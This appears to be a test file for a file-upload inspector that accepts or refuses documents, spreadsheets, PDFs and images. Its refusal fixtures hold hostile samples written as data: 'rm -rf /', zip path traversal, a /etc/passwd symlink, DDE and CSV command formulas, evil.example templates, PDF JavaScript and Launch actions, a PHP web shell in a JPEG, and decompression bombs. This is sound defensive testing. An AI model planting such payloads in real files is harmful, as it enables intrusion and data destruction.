import assert from 'node:assert/strict'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import { Document, Packer, Paragraph } from 'docx'
import { fileLimit, inspect } from './index.ts'

type Entry = {
  readonly name: string
  readonly data?: string | Buffer
  /** What the directory claims, where it lies. */
  readonly claims?: number
  readonly flags?: number
  readonly mode?: number
  readonly method?: number
}

const headerOf = (entry: Entry, packed: Buffer, plain: Buffer): Buffer => {
  const fields = Buffer.alloc(26)
  fields.writeUInt16LE(20, 0)
  fields.writeUInt16LE(entry.flags ?? 0, 2)
  fields.writeUInt16LE(entry.method ?? 8, 4)
  fields.writeUInt32LE(crc32(plain), 10)
  fields.writeUInt32LE(packed.length, 14)
  fields.writeUInt32LE(entry.claims ?? plain.length, 18)
  fields.writeUInt16LE(Buffer.byteLength(entry.name), 22)
  return fields
}

/**
 * A zip as given, honest or not. `shareBytes` makes every part point at the first one's bytes; `before` lies in front,
 * with all offsets right.
 */
const zip = (entries: readonly Entry[], { shareBytes = false, comment = '', before = '' } = {}): Buffer => {
  const local: Buffer[] = []
  const central: Buffer[] = []
  let at = before.length
  for (const entry of entries) {
    const plain = Buffer.from(entry.data ?? '')
    const packed = entry.method === 0 ? plain : deflateRawSync(plain)
    const header = headerOf(entry, packed, plain)
    const rest = Buffer.alloc(14)
    rest.writeUInt32LE(((entry.mode ?? 0o100644) << 16) >>> 0, 6)
    rest.writeUInt32LE(shareBytes ? 0 : at, 10)
    central.push(Buffer.from('PK\u0001\u0002\u0014\u0000'), header, rest, Buffer.from(entry.name))
    const body = Buffer.concat([Buffer.from('PK\u0003\u0004'), header, Buffer.from(entry.name), packed])
    local.push(body)
    at += body.length
  }
  const directory = Buffer.concat(central)
  const end = Buffer.alloc(18)
  end.writeUInt16LE(entries.length, 4)
  end.writeUInt16LE(entries.length, 6)
  end.writeUInt32LE(directory.length, 8)
  end.writeUInt32LE(at, 12)
  end.writeUInt16LE(comment.length, 16)
  return Buffer.concat([
    Buffer.from(before),
    ...local,
    directory,
    Buffer.from('PK\u0005\u0006'),
    end,
    Buffer.from(comment),
  ])
}

const main = 'application/vnd.openxmlformats-officedocument'
const mainTypes = {
  docx: `${main}.wordprocessingml.document.main+xml`,
  xlsx: `${main}.spreadsheetml.sheet.main+xml`,
  pptx: `${main}.presentationml.presentation.main+xml`,
}
const contentTypes = (type: string, more = ''): Entry => ({
  name: '[Content_Types].xml',
  data: `<?xml version="1.0" encoding="UTF-8"?><Types><Override PartName="/main.xml" ContentType="${type}"/>${more}</Types>`,
})
const office = (more: readonly Entry[] = [], type = mainTypes.docx): Entry[] => [
  contentTypes(type),
  {
    name: 'main.xml',
    data: '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><a>JavaScript: what schools teach</a>',
  },
  ...more,
]
const rels = (relation: string): Entry => ({
  name: '_rels/main.xml.rels',
  data: `<?xml version="1.0"?><Relationships>${relation}</Relationships>`,
})
const relation = (type: string, target: string): string =>
  `<Relationship Id="a>b" Type="http://x/relationships/${type}" Target="${target}" TargetMode="External"/>`

const openType = 'application/vnd.oasis.opendocument'
const openDocument = (kind: string, more: readonly Entry[] = [], manifest = '<manifest/>'): Entry[] => [
  { name: 'mimetype', data: `${openType}.${kind}`, method: 0 },
  { name: 'content.xml', data: '<office:document-content/>' },
  { name: 'META-INF/manifest.xml', data: manifest },
  ...more,
]

const pdf = (body: string | Buffer, end = '\n%%EOF\n'): Buffer =>
  Buffer.concat([Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n'), Buffer.from(body), Buffer.from(end)])
const packedObjects = (text: string, filter = '/Filter /FlateDecode'): Buffer => {
  const bytes = deflateSync(text)
  const dictionary = `2 0 obj << /Type /ObjStm /N 1 /First 4 /Length ${bytes.length} ${filter} >>\nstream\n`
  return Buffer.concat([Buffer.from(dictionary), bytes, Buffer.from('\nendstream endobj')])
}

const chunk = (type: string, data: Buffer): Buffer => {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(Buffer.concat([Buffer.from(type), data])))
  return Buffer.concat([length, Buffer.from(type), data, sum])
}
const pixel = Buffer.from('00000001000000010802000000', 'hex')
const png = (note = ''): Buffer =>
  Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', pixel),
    ...(note === '' ? [] : [chunk('tEXt', Buffer.from(note))]),
    chunk('IDAT', deflateSync(Buffer.alloc(4))),
    chunk('IEND', Buffer.alloc(0)),
  ])
const jpg = (note = ''): Buffer =>
  Buffer.concat([
    Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
    Buffer.from(note),
    Buffer.from('ffd9', 'hex'),
  ])
const webp = (): Buffer => {
  const body = Buffer.from('WEBPVP8 \u0004\u0000\u0000\u0000abcd', 'latin1')
  const size = Buffer.alloc(4)
  size.writeUInt32LE(body.length)
  return Buffer.concat([Buffer.from('RIFF'), size, body])
}

let folder: string
before(async () => {
  folder = await mkdtemp(join(tmpdir(), 'stocktake-files-'))
})
after(() => rm(folder, { recursive: true, force: true }))

let count = 0
const verdictOn = async (name: string, bytes: Buffer | string, tooLarge = false): Promise<string> => {
  const path = join(folder, String(count++))
  await writeFile(path, bytes)
  const decision = await inspect({ field: 'file', name, path, size: Buffer.byteLength(bytes), tooLarge })
  return decision.ok ? `kept as ${decision.value.kind}` : decision.refusal.kind
}

describe('kept', () => {
  const kept: readonly (readonly [string, Buffer | string])[] = [
    ['notes.txt', 'BME families: £4m, “well used”\r\n\tindented\n'],
    ['bom.csv', '\ufeffarea,score\r\nNorth,=SUM(A1:A2)\r\n"a | b",-3 | x\r\n'],
    ['plan.xlsx', zip(office([], mainTypes.xlsx))],
    ['talk.pptx', zip(office([{ name: 'ppt/printerSettings/1.bin', data: '<!DOCTYPE plist>' }], mainTypes.pptx))],
    ['chart.docx', zip(office([{ name: 'word/embeddings/Sheet1.xlsx', data: 'PK…' }]))],
    ['linked.docx', zip(office([rels(relation('hyperlink', 'https://example.org/&#65;?a=1&amp;b=2'))]))],
    ['template.docx', zip(office([rels(relation('attachedTemplate', 'file:///C:\\Templates\\Normal.dotm'))]))],
    ['text.odt', zip(openDocument('text'))],
    ['table.ods', zip(openDocument('spreadsheet'))],
    ['slides.odp', zip(openDocument('presentation'))],
    ['report.pdf', pdf('(https://example.org/wiki/JavaScript) /AA /JSON')],
    ['packed.pdf', pdf(packedObjects('<< /Type /Page >>'))],
    ['photo.PNG', png('plain words')],
    ['photo.jpeg', Buffer.concat([jpg(), Buffer.from('a camera adds this')])],
    ['photo.webp', webp()],
  ]
  for (const [name, bytes] of kept) test(name, async () => assert.match(await verdictOn(name, bytes), /^kept as /))

  test('a document that our own Word writer made', async () => {
    const document = new Document({ sections: [{ children: [new Paragraph('Hello')] }] })
    assert.equal(await verdictOn('ours.docx', await Packer.toBuffer(document)), 'kept as docx')
  })
})

describe('refused', () => {
  const word = (name: string, ...more: Entry[]) => [name, zip(office(more))] as const
  const megabytes = (mb: number): Buffer => Buffer.alloc(mb * 1024 * 1024, 'a')
  const refused: Readonly<Record<string, readonly (readonly [string, Buffer | string])[]>> = {
    empty: [['nothing.pdf', '']],
    'not-allowed': [
      ['program.exe', 'MZ'],
      ['report.pdf.exe', pdf('')],
      ['picture.svg', '<svg xmlns="http://www.w3.org/2000/svg"/>'],
      ['page.html', '<p>'],
      ['code.js', 'alert(1)'],
      ['noending', 'text'],
      ['moving.gif', 'GIF89a'],
      ['program.docx', Buffer.from('4d5a90000300000004000000ffff0000', 'hex')],
      ['program.txt', Buffer.from('4d5a90000300000004000000ffff0000', 'hex')],
      ['gif.png', 'GIF89a/*'.padEnd(60, '\u0001')],
      ['script.txt', '#!/bin/sh\nrm -rf /'],
      ['nul.csv', 'a,b\u0000'],
      ['latin1.csv', Buffer.from('price,\xa34', 'latin1')],
      ['cut.txt', Buffer.concat([Buffer.from('abc'), Buffer.from([0xe2, 0x82])])],
      ['old.docx', Buffer.from('d0cf11e0a1b11ae10000000000000000', 'hex')],
      ['any.docx', zip([{ name: 'a.xml', data: '<a/>' }])],
      ['two.docx', zip([...office(), { name: 'MAIN.XML', data: '<a/>' }])],
      ['both.docx', zip([...openDocument('text'), ...office()])],
      ['locked.docx', zip(office([{ name: 'x.xml', data: '<a/>', flags: 1 }]))],
      ['strange.docx', zip(office([{ name: 'x.xml', data: '<a/>', method: 97 }]))],
      ['climbing.docx', zip(office([{ name: '../../evil.xml', data: '<a/>' }]))],
      ['linked.docx', zip(office([{ name: 'media/x.png', data: '/etc/passwd', mode: 0o120777 }]))],
      ['comment.docx', zip(office(), { comment: '<script>' })],
      ['before.docx', zip(office(), { before: 'PK\u0003\u0004 MZ' })],
      ['cut.docx', zip(office()).subarray(0, 200)],
      ['broken.docx', zip(office([{ name: 'x.xml', data: 'no deflate', method: 8 }])).fill(0xff, 300, 320)],
      ['utf16.docx', zip(office([{ name: 'x.xml', data: Buffer.from('\ufeff<!ENTITY a "b">', 'utf16le') }]))],
      ['utf7.docx', zip(office([{ name: 'x.xml', data: '<?xml version="1.0" encoding="utf-7"?><a/>' }]))],
      [
        'hidden.docx',
        zip([
          contentTypes(mainTypes.docx, '<Override PartName="/a.png" ContentType="a/b+xml"/>'),
          ...office().slice(1),
        ]),
      ],
      ['commented.docx', zip(office([rels(`<!-- ' -->${relation('frame', 'http://evil.example')}<!-- ' -->`)]))],
      ['locked.odt', zip(openDocument('text', [], '<manifest:encryption-data/>'))],
      ['locked.pdf', pdf('trailer << /Encrypt 5 0 R >>')],
      ['tail.pdf', pdf('', '\n%%EOF\nMZ and more')],
      ['lzw.pdf', pdf(packedObjects('<< >>', '/Filter [/ASCIIHexDecode /FlateDecode]'))],
      ['cut.png', png().subarray(0, 60)],
      ['tail.png', Buffer.concat([png(), Buffer.from('more')])],
    ],
    'does-not-match-its-name': [
      ['report.docx', pdf('')],
      ['report.pdf', zip(office())],
      ['table.xlsx', zip(office())],
      ['photo.png', jpg()],
      ['words.png', 'only words'],
      ['page.txt', pdf('')],
      ['two-faced.pdf', pdf(zip(office(), { comment: '\n%%EOF' }), '')],
      ['two-faced.jpg', Buffer.concat([jpg(), zip(office())])],
    ],
    'active-content': [
      ['macro.docm', zip(office())],
      ['binary.xlsb', zip(office())],
      ['renamed.docx', zip(office([], 'application/vnd.ms-word.document.macroEnabled.main+xml'))],
      word('macro.docx', { name: 'word/vbaProject.bin', data: 'x' }),
      word('control.docx', { name: 'word/activeX/activeX1.xml', data: '<a/>' }),
      word('object.docx', { name: 'word/embeddings/oleObject1.bin', data: 'x' }),
      word('packaged.docx', { name: 'word/embeddings/package1.bin', data: 'x' }),
      word('inside.docx', { name: 'word/embeddings/payload.exe', data: 'MZ' }),
      word('nested.docx', { name: 'word/embeddings/a.xlsx', data: zip([{ name: 'xl/vbaProject.bin', data: 'x' }]) }),
      word('page.docx', { name: 'word/afchunk.html', data: '<p>' }),
      word('excel4.xlsx', { name: 'xl/macrosheets/sheet1.xml', data: '<a/>' }),
      word('laughs.docx', { name: 'x.xml', data: '<!DOCTYPE a [<!ENTITY b "cccc">]><a>&b;</a>' }),
      word('dde.docx', { name: 'word/x.xml', data: '<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>' }),
      word('fetch.docx', rels(relation('attachedTemplate', 'https://evil.example/t.dotm'))),
      word('share.docx', rels(relation('attachedTemplate', 'file:///\\\\evil.example\\t.dotm'))),
      word('frame.docx', rels(relation('fr&#97;me', '&#104;ttp://evil.example'))),
      word('spelt.docx', rels(relation('frame', 'http://evil.example').replace('External', 'E&#x78;ternal'))),
      word('script.docx', rels('<Relationship Type="x/hyperlink" Target="java&#115;cript:alert(1)"/>')),
      ['macro.odt', zip(openDocument('text', [{ name: 'Basic/Standard/Module1.xml', data: '<a/>' }]))],
      [
        'event.ods',
        zip(openDocument('spreadsheet', [{ name: 'x.xml', data: '<a xlink:href="vnd.sun.star.script:a"/>' }])),
      ],
      ['script.pdf', pdf('<< /S /JavaScript /JS (app.alert(1)) >>')],
      ['tight.pdf', pdf('<</S/JavaScript/JS(a)>>')],
      ['spelt.pdf', pdf('<< /S /Java#53cript >>')],
      ['start.pdf', pdf('<< /S /Launch /F (cmd.exe) >>')],
      ['attached.pdf', pdf('<< /Type /EmbeddedFile >>')],
      ['packed.pdf', pdf(packedObjects('<< /S /JavaScript >>'))],
      ['hidden.pdf', pdf('<< /Type /Obj#53tm >>')],
      ['page.pdf', pdf('<SCRIPT>alert(1)</SCRIPT>')],
      ['far.pdf', pdf(`${'x'.repeat(256 * 1024 - 55)}<< /S /JavaScript >>`)],
      ['script.png', png('<script>alert(1)</script>')],
      ['page.png', '<!DOCTYPE html><script>alert(1)</script>'],
      ['svg.txt', '\ufeff  <svg onload="alert(1)">'],
      ['dde.csv', `name,note\nann,"=cmd|'/c calc'!A0"`],
      ['php.jpg', jpg('<?php system($_GET[0]);')],
    ],
    'unpacks-too-large': [
      ['bomb.docx', zip(office([{ name: 'word/big.xml', data: megabytes(30) }]))],
      ['claims.xlsx', zip(office([{ name: 'x.xml', data: '<a/>', claims: 0xf0000000 }], mainTypes.xlsx))],
      [
        'lies.docx',
        zip(office([{ name: 'x.xml', data: Buffer.concat([Buffer.from('<a>'), megabytes(12)]), claims: 10 }])),
      ],
      [
        'overlaps.docx',
        zip(
          [
            { name: 'a.xml', data: '<a/>' },
            { name: 'b.xml', data: '<a/>' },
          ],
          { shareBytes: true },
        ),
      ],
      ['many.docx', zip(Array.from({ length: 5_001 }, (_, index) => ({ name: `${index}.xml` })))],
      ['bomb.pdf', pdf(packedObjects('a'.repeat(33 * 1024 * 1024)))],
    ],
  }
  for (const [kind, files] of Object.entries(refused))
    describe(kind, () => {
      for (const [name, bytes] of files) test(name, async () => assert.equal(await verdictOn(name, bytes), kind))
    })

  const megabyte = (words: string): string => words.repeat(Math.ceil(1024 ** 2 / words.length))
  const slow: readonly (readonly [string, Buffer | string, string])[] = [
    ['lines.csv', megabyte('\n'), 'kept as csv'],
    ['signs.csv', megabyte('=a'), 'kept as csv'],
    ['tags.docx', zip(office([rels(megabyte('<'))])), 'kept as docx'],
    ['quotes.docx', zip(office([rels(megabyte(`<a "`))])), 'kept as docx'],
    ['names.docx', zip(office([rels(`<${megabyte('ab')}>`)])), 'kept as docx'],
    ['chunks.png', Buffer.concat([png().subarray(0, 33), Buffer.alloc(6 * 1024 ** 2)]), 'not-allowed'],
    ['packed.pdf', pdf(megabyte('<</Type/ObjStm>>stream\n')), 'unpacks-too-large'],
    ['ends.pdf', pdf(megabyte('%%EOF\n')), 'kept as pdf'],
  ]
  for (const [name, bytes, expected] of slow)
    test(`${name} is judged soon, although made to take long`, { timeout: 60_000 }, async () =>
      assert.equal(await verdictOn(name, bytes), expected),
    )

  test('too-large, by its size or because the upload was cut off', async () => {
    assert.equal(await verdictOn('cut.txt', 'the first part', true), 'too-large')
    assert.equal(await verdictOn('big.txt', Buffer.alloc(fileLimit + 1, 'a')), 'too-large')
    assert.equal(await verdictOn('just.txt', Buffer.alloc(fileLimit, 'a')), 'kept as txt')
  })
})
